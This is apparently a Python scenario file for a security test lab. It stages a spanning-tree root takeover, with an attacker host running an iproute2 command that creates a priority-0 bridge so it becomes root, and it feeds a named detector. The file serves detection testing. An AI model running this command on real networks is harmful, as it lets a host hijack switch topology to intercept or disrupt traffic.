"""An ordinary Linux bridge with priority 0 becomes root."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    core = net.core_switch()
    attacker = net.inside("attacker", address=False)
    net.everyday()
    net.quiet(6)
    with net.attack(
        "stp-root-takeover",
        by=attacker,
        attackers=[attacker.mac],
        victims=[core.mac],
        frames="ether dst 01:80:c2:00:00:00",
        responses=f"ether src {core.mac} and ether dst 01:80:c2:00:00:00",
    ):
        script = f"ip link add name br0 address {attacker.mac} type bridge stp_state 1 priority 0"
        script += " hello_time 200 forward_delay 400; ip link set eth0 master br0; ip link set br0 up"
        net.tool(attacker, "sh", "-ec", script)
        net.quiet(17)  # the bridge goes on to the end


SCENARIO = Scenario(
    name="stp-root-takeover-held-bridge",
    about="A host's own bridge with priority 0 becomes root of the spanning tree.",
    detectors=("stp-root-takeover",),
    tools={"ip": "iproute2"},
    run=run,
)
